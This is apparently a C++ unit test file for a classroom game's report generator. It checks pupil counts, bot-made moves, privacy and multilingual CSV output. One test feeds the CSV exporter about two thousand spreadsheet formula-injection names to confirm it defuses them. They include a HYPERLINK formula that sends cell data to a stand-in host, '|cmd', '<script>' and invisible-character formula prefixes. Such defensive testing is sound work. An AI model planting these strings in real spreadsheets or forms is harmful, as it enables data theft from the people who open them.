// The report: what it counts, against a second count; and what hostile names can do in a
// spreadsheet, which is nothing.

#include "classroom/report.h"

#include "classroom/csv.h"
#include "core/utf8.h"
#include "tests/classroom/played.h"

namespace stolik {
namespace {

struct Lesson {
  std::vector<Journal> journals{};
  std::vector<ReportTable> tables{};
  std::vector<Pupil> pupils{};
};

Lesson lesson(std::string_view game, std::string_view options, int tables) {
  const PlayedClass of{.seed = blake2b_256("a lesson")};
  Lesson all;
  all.journals.reserve(static_cast<std::size_t>(tables));
  for (int t = 0; t < tables; ++t) {
    std::vector<int> seats;
    for (int s = 0; s < 4; ++s) {
      const int person = t == 0 && s == 3 ? 0 : 1 + 4 * t + s;
      seats.push_back(person);
      if (person != 0) all.pupils.push_back({person, "pupil " + std::to_string(person), t});
    }
    all.journals.push_back(PlayedAtTable(of, game, {.round = 1, .table = t + 1, .seats = seats},
                                         static_cast<std::uint64_t>(t), options, 40)
                               .journal());
    all.tables.push_back({.round = 1,
                          .table = t + 1,
                          .same_deal = true,
                          .journal = &all.journals.back(),
                          .people = seats});
  }
  return all;
}

TEST(Report, CountsAsksAsTheTableTellsThem) {
  Lesson given = lesson("triples", "{\"variant\":\"advanced\"}", 3);
  const ClassReport report = report_of(all_decks(), given.pupils, given.tables);
  ASSERT_EQ(report.rows.size(), given.pupils.size());
  EXPECT_EQ(report.tables, 3);
  ASSERT_EQ(report.sets.size(), 12u);
  int asks = 0, known = 0, mistakes = 0, got = 0, own = 0, reads = 0, read_told = 0;
  for (const PupilRow& row : report.rows)
    asks += row.asks, known += row.asks_known, got += row.asks_got, own += row.own;
  int set_asks = 0, set_known = 0;
  for (const SetFigures& set : report.sets)
    set_asks += set.asks, set_known += set.asks_known, reads += set.read_early + set.read_late;
  EXPECT_EQ(asks, set_asks);
  EXPECT_EQ(known, set_known);
  int told_mistakes = 0, told_gave = 0, told_moves = 0;
  for (const ReportTable& played : given.tables) {
    Opened table = open_journal(all_decks(), *played.journal);
    for (const JournalEntry& entry : played.journal->entries) {
      ASSERT_TRUE(table.table->submit(entry.who, entry.command).ok());
      const bool person =
          entry.who.kind == Actor::Kind::seat && played.people[slot(entry.who.seat)] != 0;
      if (!person) continue;
      ++told_moves;
      const std::string told = table.table->told(kNobody);
      told_mistakes += told.find("\"mistaken\"") != std::string::npos ? 1 : 0;
      told_gave += told.find("\"gave\"") != std::string::npos ? 1 : 0;
      read_told += entry.command.starts_with("read ") ? 1 : 0;
    }
  }
  mistakes = asks - known;
  EXPECT_GT(mistakes, 0);
  EXPECT_EQ(mistakes, told_mistakes) << "strict asking: whatever is not known is a mistake";
  EXPECT_EQ(got, told_gave);
  EXPECT_EQ(own, told_moves);
  EXPECT_EQ(reads, read_told);
  int thousandths = 0;
  for (const Confusion& one : report.confusions) thousandths += one.thousandths;
  EXPECT_LE(report.confusions.size(), 10u);
  EXPECT_LE(thousandths, 1000 * mistakes);
  EXPECT_LE(report.teach_again.size(), 3u);
  EXPECT_FALSE(report.teach_again.empty());
}

TEST(Report, TellsTheEventsThatWereAskedForAndWhoGaveTheCommand) {
  Lesson given = lesson("rationing", "{\"top\":\"steps\"}", 2);
  const std::vector<std::string> wanted = {"bought", "speculated"};
  const ClassReport report = report_of(all_decks(), given.pupils, given.tables, wanted);
  ASSERT_EQ(report.told.size(), 2u);
  std::size_t bought = 0, by_pupils = 0;
  for (const ToldTable& table : report.told) {
    const Journal& journal = *given.tables[static_cast<std::size_t>(table.table - 1)].journal;
    EXPECT_EQ(table.people, given.tables[static_cast<std::size_t>(table.table - 1)].people);
    for (const ToldEvent& one : table.events) {
      const JsonResult event = parse_json(one.event);
      ASSERT_TRUE(event) << one.event;
      const std::string& name = event.value.find("event")->text();
      EXPECT_TRUE(name == wanted[0] || name == wanted[1]) << name;
      bought += name == "bought" ? 1 : 0;
      by_pupils += one.by != 0 ? 1 : 0;
      const Actor who = journal.entries[one.at].who;
      if (one.by != 0) {
        EXPECT_EQ(one.by, table.people[slot(who.seat)]);
      }
    }
  }
  EXPECT_GT(bought, 0u);
  EXPECT_GT(by_pupils, 0u);
  EXPECT_TRUE(report_of(all_decks(), given.pupils, given.tables).told.empty());
  EXPECT_TRUE(parse_json(report_json(report)));
}

TEST(Report, TellsWhatABotDidForSomebodyAndCountsNothingOfIt) {
  Lesson given = lesson("triples", "{}", 2);
  const ClassReport before = report_of(all_decks(), given.pupils, given.tables);
  const Journal& journal = *given.tables[1].journal;
  int taken = 0;
  for (std::size_t i = 0; i < journal.entries.size(); ++i) {
    if (journal.entries[i].who == Actor::at(seat_at(0))) given.tables[1].by_bots.insert(i), ++taken;
  }
  ASSERT_GT(taken, 0);
  const ClassReport after = report_of(all_decks(), given.pupils, given.tables);
  const auto row = [](const ClassReport& report, int person) {
    return *std::find_if(report.rows.begin(), report.rows.end(),
                         [&](const PupilRow& one) { return one.who.person == person; });
  };
  EXPECT_EQ(row(before, 5).own, taken);
  EXPECT_EQ(row(after, 5).own, 0);
  EXPECT_EQ(row(after, 5).by_bots, taken);
  EXPECT_EQ(row(after, 5).asks, 0);
  EXPECT_EQ(row(after, 6).own, row(before, 6).own);
}

TEST(Report, ScoresAreThoseOfTheSameSeatElsewhere) {
  Lesson given = lesson("rationing", "{\"top\":\"steps\"}", 3);
  const ClassReport report = report_of(all_decks(), given.pupils, given.tables);
  EXPECT_TRUE(report.sets.empty());
  int sum = 0, of = 0;
  for (const PupilRow& row : report.rows) {
    EXPECT_EQ(row.results.size(), 1u);
    EXPECT_EQ(row.score_of, row.who.person % 4 == 0 ? 2 : 4)
        << "seat 3 of the first table is a bot's";
    sum += row.score, of += row.score_of;
  }
  EXPECT_EQ(2 * sum, of);
  for (ReportTable& table : given.tables) table.same_deal = false;
  for (const PupilRow& row : report_of(all_decks(), given.pupils, given.tables).rows)
    EXPECT_EQ(row.score_of, 0);
}

TEST(Report, NobodyLearnsWhoLookedUpWhat) {
  Lesson given = lesson("triples", "{\"variant\":\"advanced\"}", 2);
  const ClassReport report = report_of(all_decks(), given.pupils, given.tables);
  const JsonResult json = parse_json(report_json(report));
  ASSERT_TRUE(json);
  for (const Json& row : json.value.find("rows")->items()) {
    for (const char* member : {"read_early", "read_late", "reads", "looked_up"})
      EXPECT_EQ(row.find(member), nullptr);
  }
}

// Reads a file as a spreadsheet does: cells in quotes, two for one.
std::vector<std::vector<std::string>> cells_of(std::string_view text) {
  EXPECT_TRUE(text.starts_with("\xEF\xBB\xBF"));
  text.remove_prefix(3);
  std::vector<std::vector<std::string>> rows{{""}};
  bool quoted = false;
  for (std::size_t i = 0; i < text.size(); ++i) {
    const char c = text[i];
    if (quoted && c == '"' && i + 1 < text.size() && text[i + 1] == '"')
      rows.back().back() += '"', ++i;
    else if (c == '"') quoted = !quoted;
    else if (!quoted && c == ';') rows.back().emplace_back();
    else if (!quoted && c == '\r' && i + 1 < text.size() && text[i + 1] == '\n')
      rows.emplace_back(1), ++i;
    else rows.back().back() += c;
  }
  EXPECT_FALSE(quoted);
  rows.pop_back();
  return rows;
}

std::vector<std::string> hostile_names() {
  std::vector<std::string> names{"=1+1",
                                 "=HYPERLINK(\"http://a.example/?x=\"&A1;\"Ala\")",
                                 "+48 123",
                                 "-2+3",
                                 "@SUM(A1:A9)",
                                 "\t=1",
                                 "\r=1",
                                 "\n=1",
                                 " =1",
                                 "\xC2\xA0=1",
                                 "\xEF\xBC\x9D"
                                 "1",
                                 "\xEF\xBC\x8B"
                                 "1",
                                 "\xE2\x88\x92"
                                 "1",
                                 "|cmd",
                                 "%0A=1",
                                 "\"",
                                 "\"\"",
                                 "\";=1",
                                 ";=1;",
                                 "\xEF\xBB\xBF=1",
                                 "\xE2\x80\xAE=1",
                                 "\xE2\x80\x8B=1",
                                 "Ala\r\n=1",
                                 "Ala;Ola",
                                 "<script>",
                                 "'=1",
                                 "\xFF\xFE",
                                 "\xC3",
                                 "",
                                 std::string("\0=1", 3),
                                 "\xE2\x80\xA8=1",
                                 "\x7F=1",
                                 "\xC2\x85=1"};
  Rng rng(5);
  const std::string_view signs = "=+-@|%;\"'\t\r\n \x01\x7F,<>&A1(";
  const std::string_view parts[] = {"\xC2\xA0",     "\xEF\xBC\x9D", "\xE2\x80\xAE",
                                    "\xE2\x80\x8B", "\xFF",         "\xE2\x80\xA8",
                                    "\xEF\xBB\xBF", "\xC5\xBB",     "\xF3\xA0\x81\x81"};
  while (names.size() < 2000) {
    std::string name;
    for (std::uint32_t length = 1 + rng.below(8); length > 0; --length) {
      if (rng.below(4) == 0) name += parts[rng.below(std::size(parts))];
      else name += signs[rng.below(static_cast<std::uint32_t>(signs.size()))];
    }
    names.push_back(name);
  }
  return names;
}

TEST(Csv, TwoThousandHostileNamesDoNothing) {
  ClassReport report;
  for (const std::string& name : hostile_names()) {
    PupilRow row;
    row.who = {static_cast<int>(report.rows.size()) + 1, name, 0};
    row.own = 5;
    report.rows.push_back(row);
  }
  for (const char* language : {"pl", "ru", "en", "??"}) {
    const std::string text = report_csv(report, language);
    EXPECT_TRUE(is_utf8(text));
    const auto rows = cells_of(text);
    ASSERT_GE(rows.size(), 2001u);
    for (std::size_t i = 1; i <= report.rows.size(); ++i) {
      ASSERT_EQ(rows[i].size(), rows[0].size()) << report.rows[i - 1].who.name;
      const std::string& cell = rows[i][0];
      EXPECT_EQ(rows[i][2], "5");
      for (const char c : cell) EXPECT_TRUE(static_cast<unsigned char>(c) >= 0x20 && c != 0x7F);
      EXPECT_EQ(std::string_view{"=+-@|%\t\r "}.find(cell.empty() ? 'A' : cell[0]),
                std::string_view::npos)
          << cell;
      for (const std::string_view wide : {"\xEF\xBC\x9D", "\xEF\xBC\x8B", "\xEF\xBC\x8D",
                                          "\xEF\xBC\xA0", "\xE2\x88\x92", "\xC2\xA0"})
        EXPECT_FALSE(cell.starts_with(wide));
      for (const std::string_view unseen :
           {"\xE2\x80\xAE", "\xE2\x80\x8B", "\xE2\x80\xA8", "\xEF\xBB\xBF"})
        EXPECT_EQ(cell.find(unseen), std::string::npos);
    }
  }
}

TEST(Csv, LeavesOrdinaryNamesAlone) {
  EXPECT_EQ(harmless("Żółw – ryś"), "Żółw – ryś");
  EXPECT_EQ(harmless("Ёж 7"), "Ёж 7");
  EXPECT_EQ(harmless("O'Neil"), "O'Neil");
  EXPECT_EQ(harmless("=1"), "'=1");
  EXPECT_EQ(harmless("Ala\nOla"), "Ala Ola");
}

TEST(Report, OutsideTheClassHasNoRowsAndNoNumbersOfFew) {
  Lesson given = lesson("triples", "{}", 2);
  ClassReport report = report_of(all_decks(), given.pupils, given.tables);
  for (const char* language : {"pl", "ru", "en"}) {
    report.rows.resize(5);
    EXPECT_NE(report_csv(report, language).find("pupil 1"), std::string::npos);
    const std::string outside = report_csv(report, language, Readers::outside);
    EXPECT_EQ(outside.find("pupil"), std::string::npos);
    EXPECT_NE(outside.find("set-1"), std::string::npos);
    report.rows.resize(4);
    const std::string few = report_csv(report, language, Readers::outside);
    EXPECT_EQ(few.find_first_of("0123456789"), std::string::npos) << few;
    report.rows.resize(5);
  }
}

TEST(Report, OfFortyPupilsIsWrittenInThreeLanguages) {
  Lesson given = lesson("triples", "{}", 10);
  const ClassReport report = report_of(all_decks(), given.pupils, given.tables);
  ASSERT_EQ(report.rows.size(), 39u);
  std::set<std::string> headings;
  for (const char* language : {"pl", "ru", "en"}) {
    const auto rows = cells_of(report_csv(report, language));
    headings.insert(rows[0].begin(), rows[0].end());
    EXPECT_EQ(rows[0].size(), 12u);
    EXPECT_EQ(rows[1][0], "pupil 1");
  }
  EXPECT_EQ(headings.size(), 36u) << "a word of its own in each language";
  EXPECT_TRUE(parse_json(report_json(report)));
}

}  // namespace
}  // namespace stolik
